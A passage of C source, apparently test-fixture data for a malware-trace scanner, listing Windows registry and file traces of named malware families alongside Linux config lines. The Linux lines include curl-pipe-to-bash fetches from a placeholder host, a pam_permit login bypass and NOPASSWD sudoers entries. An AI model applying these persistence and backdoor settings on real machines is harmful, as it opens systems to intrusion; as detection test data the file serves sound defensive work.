/* make_family_traces.c - see make_family_traces.h. */
#include "make_family_traces.h"

#include "make_hive.h"
#include "make_permissions.h"
#include "make_windows_volume.h"

#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <unistd.h>

/* Where a row goes.  SYSTEM: into both control sets; LAST_GOOD: only into ControlSet003; CLASSES:
 * the user's UsrClass.dat.  LIST: texts with '|' between them; KEY: a key without values; GONE: the
 * value is deleted; PERMISSIONS: text is a kind of make_permissions.h. */
enum place { SYSTEM, LAST_GOOD_GONE, SOFTWARE, USER, CLASSES, FILES, LINE };
enum type { NUMBER, TEXT, EXPAND, LIST, KEY, GONE, PERMISSIONS };

struct trace {
    const char *set;
    enum place place;
    const char *where; /* key below the control set or the hive's root; path of the file */
    const char *name;  /* of the value */
    enum type type;
    const char *text; /* NULL in FILES: the marker */
    uint32_t number;
};

static const char marker[] = "harmless marker: stands where a program would be\n";

#define CV "Microsoft\\Windows\\CurrentVersion"
#define NT "Microsoft\\Windows NT\\CurrentVersion"
#define RUN CV "\\Run"
#define WINLOGON NT "\\Winlogon"
#define IFEO NT "\\Image File Execution Options\\"
#define HIDDEN CV "\\Explorer\\Advanced\\Folder\\Hidden\\SHOWALL"
#define SECURITY "Microsoft\\Security Center"
#define FIREWALL "Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile"
#define TCPIP "Services\\Tcpip\\Parameters"
#define CARD TCPIP "\\Interfaces\\{6B2F7C1E-0000-4000-8000-000000000001}"
#define ETC "WINDOWS/system32/drivers/etc/"
#define MARI "Documents and Settings/mari/"
#define EVERYBODY "Documents and Settings/All Users/"
#define DIGITS "106F63937B0D2FCB0000106F532F3ADE"
#define BIN "RECYCLER/S-1-5-21-6366383742-6125457035-156930196-8614/"
#define BIN_KEY "C:\\RECYCLER\\S-1-5-21-6366383742-6125457035-156930196-8614\\"

#define N(set, place, key, name, number)                                                           \
    { set, place, key, name, NUMBER, NULL, number }
#define T(set, place, key, name, text)                                                             \
    { set, place, key, name, TEXT, text, 0 }
#define E(set, place, key, name, text)                                                             \
    { set, place, key, name, EXPAND, text, 0 }
#define M(set, place, key, name, texts)                                                            \
    { set, place, key, name, LIST, texts, 0 }
#define K(set, place, key)                                                                         \
    { set, place, key, NULL, KEY, NULL, 0 }
#define G(set, place, key, name)                                                                   \
    { set, place, key, name, GONE, NULL, 0 }
#define P(set, place, key, kind)                                                                   \
    { set, place, key, NULL, PERMISSIONS, kind, 0 }
#define F(set, path)                                                                               \
    { set, FILES, path, NULL, TEXT, NULL, 0 }
#define W(set, path, text)                                                                         \
    { set, FILES, path, NULL, TEXT, text, 0 }
#define L(set, path, line)                                                                         \
    { set, LINE, path, NULL, TEXT, line, 0 }
#define SERVICE(set, name, image)                                                                  \
    N(set, SYSTEM, "Services\\" name, "Type", 1), N(set, SYSTEM, "Services\\" name, "Start", 1),   \
        E(set, SYSTEM, "Services\\" name, "ImagePath", image)

static const struct trace traces[] = {
/* --- a plain Windows ------------------------------------------------------------------------ */
#define S "windows-normal"
    T(S, SOFTWARE, NT, "SystemRoot", "C:\\WINDOWS"),
    T(S, SOFTWARE, WINLOGON, "Shell", "Explorer.exe"),
    T(S, SOFTWARE, WINLOGON, "Userinit", "C:\\WINDOWS\\system32\\userinit.exe,"),
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 0),
    N(S, SOFTWARE, SECURITY, "AntiVirusDisableNotify", 0),
    N(S, SOFTWARE, SECURITY, "FirewallOverride", 0),
    N(S, SOFTWARE, SECURITY, "FirewallDisableNotify", 0),
    N(S, SOFTWARE, SECURITY, "UpdatesDisableNotify", 0),
    N(S, SOFTWARE, CV "\\Policies\\System", "EnableLUA", 1),
    N(S, SYSTEM, FIREWALL, "EnableFirewall", 1),
    T(S, SOFTWARE, "Classes\\exefile\\shell\\open\\command", "", "\"%1\" %*"),
    T(S, SYSTEM, "Control\\SafeBoot", "AlternateShell", "cmd.exe"),
    T(S, SYSTEM, CARD, "DhcpDefaultGateway", "192.0.2.1"),
    N(S, USER, "Software\\" CV "\\Explorer\\Advanced", "Hidden", 2),
    T(S, CLASSES, ".txt\\OpenWithList", "a", "NOTEPAD.EXE"),
    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli"),
    M(S, SYSTEM, "Control\\Lsa", "Security Packages", "kerberos|msv1_0|schannel|wdigest"),
    M(S, SYSTEM, "Control\\Session Manager", "BootExecute", "autocheck autochk *"),
    P(S, SYSTEM, "Services", "open"),
    P(S, SYSTEM, "Services\\wuauserv", "open"),
    P(S, SYSTEM, "Services\\wuauserv\\Parameters", "open"),
    P(S, SYSTEM, "Services\\BITS", "open"),
    P(S, SYSTEM, "Services\\wscsvc", "open"),
    P(S, SYSTEM, "Services\\Browser", "below-only"),
    P(S, SOFTWARE, NT, "open"),
    P(S, SOFTWARE, IFEO "notepad.exe", "installer"),
    W(S, ETC "hosts",
      "# sample\r\n127.0.0.1       localhost\r\n192.0.2.7 printer.example.invalid\r\n"),
    W(S, "WINDOWS/system.ini", "; for 16-bit app support\r\n[drivers]\r\nwave=mmdrv.dll\r\n"),
    W(S, "WINDOWS/inf/oem6.pnf", "stands for precompiled setup data\n"),
#undef S

/* --- what administrators and products do ---------------------------------------------------- */
#define S "windows-administered"
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableRegistryTools", 1),
    N(S, SOFTWARE, CV "\\Policies\\System", "DisableTaskMgr", 1),
    N(S, SOFTWARE, CV "\\Policies\\System", "EnableLUA", 0),
    N(S, USER, "Software\\" CV "\\Policies\\Explorer", "NoFolderOptions", 1),
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
    N(S, SOFTWARE, SECURITY, "FirewallOverride", 1),
    N(S, SOFTWARE, "Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", 1),
    N(S, SOFTWARE, "Policies\\Microsoft\\Windows\\WindowsUpdate\\AU", "NoAutoUpdate", 1),
    N(S, SYSTEM, FIREWALL, "EnableFirewall", 0),
    N(S, SYSTEM, "Services\\wuauserv", "Start", 4),
    N(S, SYSTEM, "Services\\BITS", "Start", 4),
    N(S, SYSTEM, "Services\\wscsvc", "Start", 4),
    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
    P(S, SYSTEM, "Services\\wuauserv", "deny-everyone"),
    P(S, SOFTWARE, NT "\\Svchost", "read-only"),
    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli|vendorfilter"),
    M(S, SYSTEM, "Control\\Session Manager", "BootExecute", "autocheck autochk *|lsdelete"),
    T(S, CLASSES, "exefile\\shell\\open\\command", "", "\"%1\" %*"),
    T(S, CLASSES, ".exe\\shell\\scan\\command", "", "\"C:\\Tools\\scan.exe\" \"%1\""),
    N(S, SYSTEM, TCPIP, "TcpNumConnections", 16777214),
    T(S, SYSTEM, CARD, "NameServer", "192.0.2.53,198.51.100.53"),
    T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "127.0.0.1:8118"),
    T(S, SOFTWARE, IFEO "taskmgr.exe", "Debugger", "\"C:\\Tools\\procexp.exe\""),
    T(S, SOFTWARE, IFEO "games.exe", "Debugger", "C:\\Admin\\blocked.exe"),
    N(S, SOFTWARE, IFEO "avp.exe", "GlobalFlag", 0x2000000),
    T(S, SOFTWARE, CV "\\Policies\\Explorer\\Run", "1", "\\\\server\\netlogon\\inventory.exe"),
    T(S, SOFTWARE, WINLOGON, "Userinit",
      "C:\\WINDOWS\\system32\\userinit.exe,C:\\Program Files\\Citrix\\logon.exe,"),
    T(S, USER, "Software\\" NT "\\Winlogon", "Shell", "C:\\Program Files\\Kiosk\\kiosk.exe"),
    T(S, SOFTWARE, RUN, "SysTray", "SysTray.Exe"),
    T(S, SOFTWARE, RUN, "Backup", "\"C:\\Program Files\\Backup\\ld08 tool.exe\""),
    T(S, SOFTWARE, "Microsoft\\Active Setup\\Installed Components\\{Vendor}", "StubPath",
      "C:\\Program Files\\Vendor\\stub.exe"),
    SERVICE(S, "MRxSmb", "system32\\DRIVERS\\mrxsmb.sys"),
    SERVICE(S, "UACd", "\"C:\\Program Files\\UAC Driver Tools\\uacd.exe\""),
    L(S, ETC "hosts", "0.0.0.0 om.symantec.com metrics.mcafee.com"),
    L(S, ETC "hosts", "0.0.0.0 telemetry.example.invalid"),
    W(S, "autorun.inf",
      "[autorun]\r\nopen=setup.exe /auto\r\nicon=setup.exe,0\r\nshell\\readme\\command=notepad "
      "readme.txt\r\n"),
    F(S, "RECYCLER/S-1-5-21-1078081533-1767777339-725345543-1003/Dc1.exe"),
    F(S, EVERYBODY "Application Data/{106F6393-7B0D-2FCB-0000-106F532F3ADE}/setup.exe"),
#undef S

/* --- another version ------------------------------------------------------------------------- */
#define S "windows-vista"
    T(S, SOFTWARE, NT, "CurrentVersion", "6.0"),
    F(S, "Program Files/Windows Defender/MSASCui.exe"),
#undef S
#define S "windows-eight"
    T(S, SOFTWARE, NT, "CurrentVersion", "6.2"),
#undef S

/* --- Windows families ----------------------------------------------------------------------- */
#define S "Autorun"
    W(S, "autorun.inf",
      "[autorun]\r\nopen=RECYCLER\\copy.exe\r\naction=Open folder to view files\r\n"),
    W(S, "photos/autorun.inf", "[AutoRun]\r\nshell\\open\\command=wscript.exe .\\notes.vbs\r\n"),
    F(S, "RECYCLER/copy.exe"),
    T(S, USER, "Software\\" CV "\\Explorer\\MountPoints2\\{0c1}\\Shell\\AutoRun\\command", "",
      "E:\\RECYCLER\\copy.exe"),
    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
#undef S
#define S "Taterf"
    T(S, USER, "Software\\" RUN, "kava", "C:\\WINDOWS\\system32\\kavo.exe"),
    F(S, "WINDOWS/system32/kavo.exe"),
    F(S, "WINDOWS/system32/kavo0.dll"),
    W(S, "autorun.inf", "[AutoRun]\r\nopen=c.cmd\r\nshell\\open\\Command=c.cmd\r\n"),
    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
#undef S
#define S "Hupigon"
    SERVICE(S, "rayPigeonServer", "C:\\WINDOWS\\g_server2.03.exe"),
    SERVICE(S, "WinLogonHelp", "C:\\WINDOWS\\system32\\Hacker.com.cn.exe"),
    F(S, "WINDOWS/g_server2.03.exe"),
    F(S, "WINDOWS/system32/Hacker.com.cn.exe"),
#undef S
#define S "Koobface"
    T(S, SOFTWARE, RUN, "sysldtray", "c:\\windows\\ld02.exe"),
    F(S, "WINDOWS/ld02.exe"),
    W(S, "WINDOWS/tmark2.dat", "1"),
#undef S
#define S "Srizbi"
    SERVICE(S, "symavc32", "\\SystemRoot\\System32\\drivers\\symavc32.sys"),
    F(S, "WINDOWS/system32/drivers/symavc32.sys"),
    T(S, SOFTWARE, RUN, "ACBRRRJJ", "%windir%\\acbrrrjj.exe"),
#undef S
#define S "Waledac"
    T(S, SOFTWARE, RUN, "PromoReg", MARI "card.exe"),
    T(S, USER, "Software\\" CV, "MyID", "0123"),
    T(S, USER, "Software\\" CV, "RList", "stands for a list"),
#undef S
#define S "Sality"
    L(S, "WINDOWS/system.ini", "[MCIDRV_VER]"),
    L(S, "WINDOWS/system.ini", "DEVICEMB=50954319427"),
    SERVICE(S, "amsint32", "\\??\\C:\\WINDOWS\\system32\\drivers\\kqmvz.sys"),
    F(S, "WINDOWS/system32/drivers/kqmvz.sys"),
    K(S, SYSTEM, "Control\\SafeBoot\\Minimal\\Empty\\Inner"),
    {S, LAST_GOOD_GONE, "Control\\SafeBoot\\Minimal", NULL, TEXT, NULL, 0},
    {S, LAST_GOOD_GONE, "Control\\SafeBoot\\Network", NULL, TEXT, NULL, 0},
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
    N(S, SOFTWARE, SECURITY, "UpdatesDisableNotify", 1),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableRegistryTools", 1),
    N(S, SYSTEM, FIREWALL, "EnableFirewall", 0),
    N(S, SOFTWARE, CV "\\Policies\\System", "EnableLUA", 0),
    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
#undef S
#define S "Alureon"
    T(S, SYSTEM, TCPIP, "NameServer", "85.255.112.132,85.255.113.13"),
    T(S, SYSTEM, CARD, "NameServer", "93.188.160.4 93.188.167.9"),
    T(S, SYSTEM, CARD, "DhcpNameServer", "213.109.79.255"),
    SERVICE(S, "TDSSserv.sys", "\\systemroot\\system32\\drivers\\TDSSmqlt.sys"),
    F(S, "WINDOWS/system32/drivers/TDSSmqlt.sys"),
    F(S, MARI "Local Settings/Temp/TDSS5a1f.tmp"),
#undef S
#define S "Zbot"
    T(S, SOFTWARE, WINLOGON, "Userinit",
      "C:\\WINDOWS\\system32\\userinit.exe,C:\\WINDOWS\\system32\\sdra64.exe,"),
    T(S, USER, "Software\\" RUN, "userinit",
      "C:\\Documents and Settings\\mari\\Application Data\\sdra64.exe"),
    F(S, "WINDOWS/system32/sdra64.exe"),
    F(S, "WINDOWS/system32/lowsec/local.ds"),
    F(S, "WINDOWS/system32/lowsec/user.ds"),
    N(S, SYSTEM, FIREWALL, "EnableFirewall", 0),
#undef S
#define S "Windows/SettingsDamage"
    T(S, SOFTWARE, WINLOGON, "Shell", "C:\\WINDOWS\\Temp\\x.exe"),
    T(S, USER, "Software\\" NT "\\Winlogon", "Shell",
      "C:\\Documents and Settings\\mari\\Local Settings\\Temp\\x.exe"),
    T(S, SOFTWARE, WINLOGON, "Userinit",
      "C:\\WINDOWS\\system32\\userinit.exe,C:\\RECYCLER\\x.exe,"),
    T(S, SOFTWARE, WINLOGON, "Taskman", "C:\\WINDOWS\\x.exe"),
    T(S, SOFTWARE, "Classes\\exefile\\shell\\open\\command", "", "C:\\WINDOWS\\x.exe \"%1\" %*"),
    T(S, SOFTWARE, IFEO "avgnt.exe", "Debugger", "svchost.exe"),
    T(S, SOFTWARE, IFEO "regedit.exe", "Debugger", "ntsd -d"),
    T(S, SOFTWARE, CV "\\Policies\\Explorer\\Run", "x", "C:\\WINDOWS\\Temp\\x.exe"),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
    N(S, USER, "Software\\" CV "\\Policies\\Explorer", "NoFolderOptions", 1),
    N(S, SOFTWARE, HIDDEN, "CheckedValue", 0),
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
    N(S, SOFTWARE, "Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", 1),
    N(S, SYSTEM, "Services\\wuauserv", "Start", 4),
    N(S, SOFTWARE, "Policies\\Microsoft\\Windows\\WindowsUpdate\\AU", "NoAutoUpdate", 1),
    L(S, ETC "hosts", "127.0.0.1 liveupdate.symantec.com"),
    L(S, ETC "hosts", "127.0.0.1 www.windowsupdate.com"),
    M(S, SYSTEM, "Control\\Lsa", "Notification Packages", "scecli|C:\\WINDOWS\\Temp\\x"),
    M(S, SYSTEM, "Control\\Lsa", "Security Packages", "kerberos|mimilib|msv1_0|schannel|wdigest"),
    M(S, SYSTEM, "Control\\Session Manager", "BootExecute",
      "autocheck autochk *|C:\\WINDOWS\\Temp\\boot.exe"),
    P(S, SYSTEM, "Services\\wuauserv", "deny-everyone"),
    P(S, SYSTEM, "Services\\wuauserv\\Parameters", "system-only"),
    P(S, SYSTEM, "Services\\BITS", "system-only"),
    P(S, SYSTEM, "Services\\wscsvc", "nobody"),
    P(S, SOFTWARE, IFEO "regedit.exe", "deny-set-value"),
#undef S
#define S "Windows/SettingsDamage#2"
    T(S, SOFTWARE, WINLOGON, "Shell", "Explorer.exe C:\\WINDOWS\\Config\\csrss.exe"),
    T(S, SOFTWARE, IFEO "MsMpEng.exe", "Debugger", "svchost.exe"),
    T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "http=127.0.0.1:5555"),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
    G(S, SOFTWARE, HIDDEN, "CheckedValue"),
#undef S
#define S "RogueSecuritySoftware"
    T(S, USER, "Software\\" RUN, "Security Protection",
      "C:\\Documents and Settings\\mari\\Application Data\\defender.exe"),
    F(S, MARI "Application Data/defender.exe"),
    T(S, CLASSES, ".exe\\shell\\open\\command", "", "\"C:\\ave.exe\" /START \"%1\" %*"),
    T(S, CLASSES, ".exe", "", "secfile"),
    T(S, CLASSES, "secfile\\shell\\open\\command", "", "\"C:\\ave.exe\" /START \"%1\" %*"),
    T(S, CLASSES, "secfile", "Content Type", "application/x-msdownload"),
    F(S, "WINDOWS/system32/winscenter.exe"),
    F(S, EVERYBODY "Application Data/isecurity.exe"),
    F(S, "WINDOWS/spoolsystem.exe"),
    F(S, MARI "Start Menu/Programs/Security Tool.lnk"),
    T(S, USER, "Software\\" NT "\\Winlogon", "Shell",
      "C:\\Documents and Settings\\mari\\Application Data\\hotfix.exe"),
    T(S, SOFTWARE, IFEO "avgnt.exe", "Debugger", "svchost.exe"),
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableTaskMgr", 1),
    T(S, USER, "Software\\" CV "\\Internet Settings", "ProxyServer", "http=127.0.0.1:33820"),
#undef S
#define S "RogueSecuritySoftware#2"
    T(S, USER, "Software\\" RUN, "Security Tool", "\"%APPDATA%\\12345\\st.exe\" /auto"),
    F(S, MARI "Application Data/12345/st.exe"),
    T(S, USER, "Software\\" RUN, "Internet Security 2010",
      "C:\\WINDOWS\\system32\\rundll32.exe \"%USERPROFILE%\\Application Data\\is.exe.dll\",Start"),
    F(S, MARI "Application Data/is.exe.dll"),
    T(S, SOFTWARE, RUN, "Security Protection", "%ProgramData%\\elsewhere\\x\\sp.exe -x"),
    T(S, CLASSES, "exefile\\shell\\open\\command", "", "\"C:\\x\\pav.exe\" /START \"%1\" %*"),
    N(S, SOFTWARE, SECURITY, "AntiVirusOverride", 1),
#undef S
#define S "Winwebsec"
    T(S, USER, "Software\\" CV "\\RunOnce", DIGITS, "C:\\ProgramData\\" DIGITS "\\" DIGITS ".exe"),
    F(S, "ProgramData/" DIGITS "/" DIGITS ".exe"),
#undef S
#define S "Rimecud"
    T(S, SOFTWARE, WINLOGON, "Taskman", BIN_KEY "winmap.exe"),
    F(S, BIN "winmap.exe"),
    F(S, "RECYCLER/autorun.exe"),
    W(S, "autorun.inf",
      "[autorun]\r\nopen=RECYCLER\\autorun.exe\r\nicon=%SystemRoot%\\system32\\SHELL32.dll,4\r\n"),
#undef S
#define S "Rimecud#2"
    T(S, SOFTWARE, WINLOGON, "Taskman",
      "C:\\Documents and Settings\\mari\\Application Data\\ygmdrm.exe"),
    W(S, "autorun.inf", "[autorun]\r\nshellexecute=kurcina\\\\prokleta.exe\r\n"),
#undef S
#define S "Dorkbot"
    T(S, USER, "Software\\" RUN, "Screen Saver Pro 3.1",
      "C:\\Documents and Settings\\mari\\Application Data\\ScreenSaverPro.scr"),
    T(S, USER, "Software\\" RUN, "Fhwuwz",
      "C:\\Documents and Settings\\mari\\Application Data\\Fhwuwz.exe"),
    F(S, MARI "Application Data/ScreenSaverPro.scr"),
    F(S, MARI "Application Data/temp.bin"),
    F(S, "RECYCLER/0xd80a89c7.exe"),
    F(S, "RECYCLER.lnk"),
#undef S
#define S "Gamarue"
    T(S, SOFTWARE, CV "\\Policies\\Explorer\\Run", "24719",
      "C:\\Documents and Settings\\All Users\\Local Settings\\Temp\\mskqvz.pif"),
    F(S, EVERYBODY "Local Settings/Temp/mskqvz.pif"),
#undef S
#define S "Brontok"
    T(S, SOFTWARE, RUN, "Bron-Spizaetus", "\"C:\\WINDOWS\\ShellNew\\bronstab.exe\""),
    T(S, USER, "Software\\" RUN, "Tok-Cirrhatus",
      "C:\\Documents and Settings\\mari\\Local Settings\\Application Data\\smss.exe"),
    T(S, SOFTWARE, WINLOGON, "Shell", "Explorer.exe \"C:\\WINDOWS\\eksplorasi.exe\""),
    T(S, SYSTEM, "Control\\SafeBoot", "AlternateShell", "cmd-bro-nmx.exe"),
    F(S, "WINDOWS/eksplorasi.exe"),
    F(S, MARI "Local Settings/Application Data/smss.exe"),
    F(S, MARI "Start Menu/Programs/Startup/Empty.pif"),
    N(S, USER, "Software\\" CV "\\Policies\\Explorer", "NoFolderOptions", 1),
    N(S, USER, "Software\\" CV "\\Policies\\System", "DisableRegistryTools", 1),
#undef S
#define S "Blaster"
    T(S, SOFTWARE, RUN, "windows auto update", "msblast.exe"),
    F(S, "WINDOWS/system32/msblast.exe"),
#undef S
#define S "Sasser"
    T(S, SOFTWARE, RUN, "avserve2.exe", "C:\\WINDOWS\\avserve2.exe"),
    F(S, "WINDOWS/avserve2.exe"),
    F(S, "win2.log"),
#undef S
#define S "Stuxnet"
    SERVICE(S, "MRxCls", "\\??\\C:\\WINDOWS\\system32\\Drivers\\mrxcls.sys"),
    SERVICE(S, "MRxNet", "\\??\\C:\\WINDOWS\\system32\\Drivers\\mrxnet.sys"),
    F(S, "WINDOWS/system32/drivers/mrxcls.sys"),
    F(S, "WINDOWS/system32/drivers/mrxnet.sys"),
    F(S, "WINDOWS/inf/mdmcpq3.PNF"),
    F(S, "WINDOWS/inf/oem7a.pnf"),
#undef S
#define S "WannaCrypt"
    SERVICE(S, "mssecsvc2.1", "C:\\WINDOWS\\mssecsvc.exe -m security"),
    T(S, SOFTWARE, RUN, "kqvzmwpt", "\"C:\\ProgramData\\kqvzmwpt\\tasksche.exe\""),
    F(S, "WINDOWS/tasksche.exe"),
    F(S, "WINDOWS/mssecsvc.exe"),
#undef S
#define S "Rustock"
    SERVICE(S, "lzx32", "\\??\\C:\\WINDOWS\\system32:lzx32.sys"),
    F(S, "WINDOWS/system32/drivers/glaide32.sys"),
    E(S, SYSTEM, "Services\\wuauserv", "ImagePath",
      "%fystemRoot%\\system32\\svchost.exe -k netsvcs"),
#undef S

/* --- a plain Linux -------------------------------------------------------------------------- */
#define S "linux-normal"
    W(S, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"),
    W(S, "etc/rc.local", "#!/bin/sh -e\n# /usr/networks is not here\nexit 0\n"),
    W(S, "etc/pam.d/sshd",
      "# PAM\n@include common-auth\naccount required pam_nologin.so\nsession optional pam_motd.so "
      "motd=/run/motd.dynamic\n"),
    W(S, "etc/pam.d/common-auth",
      "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth "
      "required pam_permit.so\n"),
    W(S, "var/spool/cron/root", "17 4 * * * /usr/local/sbin/backup\n"),
    W(S, "etc/cron.hourly/logs.sh",
      "#!/bin/sh\n# cp /lib/libudev.so is not here\nexec /usr/sbin/logrotate\n"),
    W(S, "var/www/html/index.php", "stands for a page: echo htmlspecialchars($_GET['q']);\n"),
    F(S, "bin/ps"),
    F(S, "usr/bin/lsof"),
    F(S, "bin/ls"),
    F(S, "bin/netstat"),
    F(S, "usr/sbin/sshd"),
    F(S, "usr/bin/top.distrib"),
    F(S, "lib/x86_64-linux-gnu/libkeyutils.so.1.10"),
    F(S, "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
    F(S, "lib/x86_64-linux-gnu/security/pam_unix.so"),
    W(S, "usr/bin/top", "put there by somebody\n"),
    W(S, "var/lib/dpkg/info/procps.md5sums",
      "4bf0e80fd4598f185147b477abe9eb4b  bin/ps\n4bf0e80fd4598f185147b477abe9eb4b  "
      "usr/bin/lsof\n4bf0e80fd4598f185147b477abe9eb4b  bin/ls\n4bf0e80fd4598f185147b477abe9eb4b  "
      "bin/netstat\n4bf0e80fd4598f185147b477abe9eb4b  "
      "usr/sbin/sshd\n4bf0e80fd4598f185147b477abe9eb4b  "
      "usr/bin/top\n4bf0e80fd4598f185147b477abe9eb4b  "
      "lib/x86_64-linux-gnu/libkeyutils.so.1.10\n4bf0e80fd4598f185147b477abe9eb4b  "
      "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2\n"),
    W(S, "var/lib/dpkg/info/libpam-modules:amd64.md5sums",
      "4bf0e80fd4598f185147b477abe9eb4b  lib/x86_64-linux-gnu/security/pam_unix.so\n"),
    W(S, "var/lib/dpkg/info/libpam-modules:amd64.list",
      "/.\n/lib\n/lib/x86_64-linux-gnu/security/pam_unix.so\n/lib/x86_64-linux-gnu/security/"
      "pam_plain.so\n"),
    /* had ps before procps did; its list was left */
    W(S, "var/lib/dpkg/info/former.md5sums", "00000000000000000000000000000000  bin/ps\n"),
    W(S, "var/lib/dpkg/info/tops.md5sums", "9c539d8b7551f57d14211402b3bbbb2d  usr/bin/top\n"),
    W(S, "var/lib/dpkg/diversions",
      "/usr/bin/top\n/usr/bin/top.distrib\ntops\n/usr/bin/x\n/usr/bin/x.old\n:\n"),
    F(S, "lib/x86_64-linux-gnu/security/pam_plain.so"),
    W(S, "etc/modules", "# modules of this machine\nloop\n"),
    W(S, "etc/modprobe.d/local.conf", "blacklist pcspkr\ninstall usb-storage /bin/true\n"),
    W(S, "etc/udev/rules.d/70-local.rules", "# rules of this machine\n"),
    W(S, "etc/environment", "PATH=\"/usr/local/bin:/usr/bin:/bin\"\n"),
    W(S, "etc/bash.bashrc", "# for all\nPS1='$ '\n"),
    W(S, "etc/apt/apt.conf.d/20local",
      "DPkg::Post-Invoke {\"rm -f /var/cache/apt/archives/*.deb || true\";};\n"),
    W(S, "etc/ssh/sshd_config", "PermitRootLogin no\n"),
    W(S, "etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"),
#undef S
#define S "linux-administered"
    L(S, "etc/ld.so.preload", "/usr/lib/libsnoopy.so"),
    L(S, "etc/pam.d/sshd", "session optional pam_exec.so quiet /usr/local/sbin/notify.sh"),
    L(S, "etc/pam.d/sshd", "session optional pam_exec.so /home/mari/.bin/greet"),
    L(S, "etc/pam.d/common-auth", "auth sufficient pam_permit.so"),
    L(S, "etc/rc.local", "/usr/local/sbin/networks --start"),
    L(S, "var/spool/cron/root",
      "*/10 * * * * curl -fsS -o /var/cache/list https://example.invalid/list.sh"),
    L(S, "root/.ssh/authorized_keys",
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRedis redis@example.invalid"),
    W(S, "etc/systemd/system/bot.service", "[Service]\nExecStart=/opt/chat/bot\n"),
    W(S, "etc/init.d/selinux", "#!/bin/sh\n# relabels at boot\nexec /sbin/fixfiles onboot\n"),
    W(S, "tmp/kinsing", "no miner: this file keeps one away\n"),
    F(S, "lib/libselinux.so.1"),
    F(S, "usr/lib/libudev.so.1"),
    W(S, "usr/sbin/sshd", "stands for an OpenSSH of the administrator's own\n"),
    F(S, "lib/x86_64-linux-gnu/security/pam_duo.so"),
    L(S, "etc/pam.d/sshd", "session optional /opt/vendor/lib/pam_vendor.so"),
    L(S, "etc/pam.d/sshd", "account required pam_exec.so /usr/local/sbin/may-log-on"),
    L(S, "etc/modules", "reptile_nic"),
    L(S, "etc/modprobe.d/local.conf",
      "install snd /sbin/modprobe --ignore-install snd && /usr/local/sbin/mixer"),
    L(S, "etc/rc.local", "modprobe -q reptiles; insmod /opt/vendor/card.ko"),
    L(S, "etc/rc.local", "find /tmp -name '.X*' -mtime +7 -delete"),
    L(S, "etc/rc.local", "/tmp/once.sh"),
    W(S, "etc/cron.daily/list",
      "#!/bin/sh\nwget -q -O /tmp/.list https://example.invalid/list\nmv /tmp/.list "
      "/var/cache/list\n"),
    L(S, "etc/udev/rules.d/70-local.rules",
      "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/backup-on-plug\""),
    L(S, "etc/udev/rules.d/70-local.rules",
      "ACTION==\"add\", RUN+=\"/bin/sh -c 'echo $kernel >> /tmp/usb.log'\""),
    L(S, "etc/udev/rules.d/70-local.rules",
      "ACTION==\"change\", SUBSYSTEM==\"drm\", RUN+=\"/home/mari/.local/bin/dock\""),
    L(S, "etc/bash.bashrc", "export LD_PRELOAD=/home/mari/.local/lib/libx.so"),
    L(S, "etc/pam.d/sshd",
      "auth required pam_exec.so expose_authtok quiet /usr/local/sbin/check-password"),
    L(S, "etc/udev/rules.d/70-local.rules", "KERNEL==\"random\", MODE=\"0666\""),
    L(S, "etc/bash.bashrc",
      "alias getnvm='curl -o- https://example.invalid/install.sh | bash >/dev/null 2>&1'"),
    L(S, "etc/bash.bashrc",
      "  curl -s https://example.invalid/install.sh | bash -s -- --prefix ~/.local"),
    L(S, "etc/bash.bashrc", "export TMPFILE=/tmp/.bash-$USER; [ -f /tmp/.motd ] && cat /tmp/.motd"),
    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
    L(S, "etc/apt/apt.conf.d/20local",
      "APT::Update::Post-Invoke-Success {\"curl -fsS https://example.invalid/ping || true\";};"),
    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys/%u"),
    L(S, "etc/sudoers", "deploy ALL=(ALL) NOPASSWD: ALL"),
    L(S, "etc/sudoers", "www-data ALL=(root) NOPASSWD: /usr/sbin/service"),
    L(S, "etc/sudoers", "jenkins ALL=(ALL) NOPASSWD: ALL"),
    W(S, "etc/systemd/system-generators/disks",
      "#!/bin/sh\nmkdir -p /tmp/.disks\nexec /usr/local/sbin/disks \"$1\"\n"),
    W(S, "etc/xdg/autostart/tool.desktop",
      "[Desktop Entry]\nExec=/home/mari/.local/bin/tool --quiet\n"),
    W(S, "var/spool/cron/atjobs/a00001",
      "#!/bin/sh\ncd /tmp || exit 1\nsh /tmp/report.sh > /tmp/.report\n"),
